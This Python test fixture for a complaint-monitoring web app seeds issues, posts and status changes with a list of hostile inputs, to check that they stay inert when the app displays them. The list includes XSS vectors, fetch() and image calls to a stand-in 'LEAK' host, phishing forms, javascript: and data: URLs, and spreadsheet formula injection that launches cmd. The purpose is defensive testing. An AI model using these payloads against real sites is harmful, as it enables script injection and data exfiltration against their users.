"""Texts that try to run, fetch, redraw or mislead when they are shown; LEAK is a server that must never be asked."""

from __future__ import annotations

from datetime import timedelta

from sqlalchemy import Connection

from tanggap.records import Issue, Link, Post, PostKind, Reason, Score, Status, StatusChange
from tanggap.store import Store, issues, posts, scores
from tests.browser.seed import MODEL, NOW

PAYLOADS = (
    "![x](LEAK/md.png)",
    "[![x](LEAK/md2.png)](LEAK/link)",
    '<img src="LEAK/img.png">',
    "<img src=x onerror=\"fetch('LEAK/onerror')\">",
    "<script>fetch('LEAK/script');window.owned=1</script>",
    "<svg onload=\"fetch('LEAK/svg');window.owned=1\"></svg>",
    '<svg><image href="LEAK/svgimage.png"/></svg>',
    '<iframe src="LEAK/iframe"></iframe>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    '<object data="LEAK/object"></object>',
    '<embed src="LEAK/embed">',
    '<link rel="stylesheet" href="LEAK/css">',
    "<style>@import 'LEAK/import.css'; body{display:none}</style>",
    '<div style="background:url(LEAK/bg.png)">x</div>',
    '<video poster="LEAK/poster.png" autoplay></video>',
    '<audio src="LEAK/audio" autoplay></audio>',
    '<input autofocus onfocus="window.owned=1">',
    '<details open ontoggle="window.owned=1">x</details>',
    '<body onload="window.owned=1">',
    '<meta http-equiv="refresh" content="0;url=LEAK/meta">',
    '<base href="LEAK/">',
    '<form action="LEAK/form"><button>Masuk lagi</button></form>',
    '<a href="javascript:window.owned=1">klik</a>',
    "[klik](javascript:window.owned=1)",
    "<LEAK/autolink>",
    "LEAK/bare?x=1",
    "<math><mtext><img src=LEAK/math></mtext></math>",
    '"><img src=LEAK/breakout>',
    "'><script>window.owned=1</script>",
    "--><script>window.owned=1</script><!--",
    "</title></textarea></script><script>window.owned=1</script>",
    "{{constructor.constructor('window.owned=1')()}}",
    "${window.owned=1}",
    ":material/warning: :red[merah] :shark: $\\text{LEAK}$",
    "$$\\includegraphics{LEAK/latex.png}$$ \\href{javascript:window.owned=1}{x}",
    "\u202egnp.exe \u2066terbalik\u2069 \u200bban\u200bjir",
    "Z" + "\u0336\u0325\u034d\u0334" * 30 + "algo",
    '=HYPERLINK("LEAK/formula","klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "| a | b |\n|---|---|\n| ![x](LEAK/table.png) | <b>x</b> |",
    "# judul\n```html\n<img src=LEAK/code>\n```",
    "A" * 4000,
    "data:text/html,<script>window.owned=1</script>",
)
LINKS = ("javascript:window.owned=1", "data:text/html,<script>1</script>", "LEAK/link", "https://user:pass@x.example/")


def poison(store: Store, leak: str) -> None:
    """One issue for each payload, which carries it in every field that the public or a site can fill."""
    with store.write() as db:
        for number, payload in enumerate(PAYLOADS):
            tell(db, payload.replace("LEAK", leak), LINKS[number % len(LINKS)].replace("LEAK", leak))


def tell(db: Connection, text: str, url: str) -> None:
    """An issue made of `text`, with a post, a news item and a report that say it too."""
    issue_id = issues.next_id(db, NOW.date())
    at = NOW - timedelta(minutes=30)
    said = [
        Post(
            source="warta", native_id=f"{issue_id}-{kind.value}", kind=kind, title=text, text=text, url=url,
            author=text, published_at=at, collected_at=NOW, status=Status.WAITING if kind is PostKind.REPORT else None,
        )
        for kind in PostKind
    ]  # fmt: skip
    posts.add(db, said)
    issues.add(
        db,
        Issue(
            id=issue_id, title=text, topic="banjir", status=Status.WAITING, score=99, place=text, areas=("31.71.01",),
            reasons=(Reason(part=text[:40], points=99, text=text),), agency="AG05", first_at=at, last_at=at,
            detected_at=at, status_at=at, posts=3, accounts=3,
        ),
    )  # fmt: skip
    stored = posts.unscored(db, MODEL, 10)
    score = Score(
        model=MODEL, relevant=True, relevance=1.0, sentiment="negative", topic="banjir", complaint=True, urgency=3,
    )  # fmt: skip
    scores.add(db, [(post.id or 0, score) for post in stored])
    issues.link(db, [Link(post=post.id or 0, issue=issue_id, similarity=1) for post in stored])
    change = StatusChange(issue=issue_id, at=at, by=text[:60], before=None, after=Status.WAITING, note=text)
    issues.add_change(db, change)
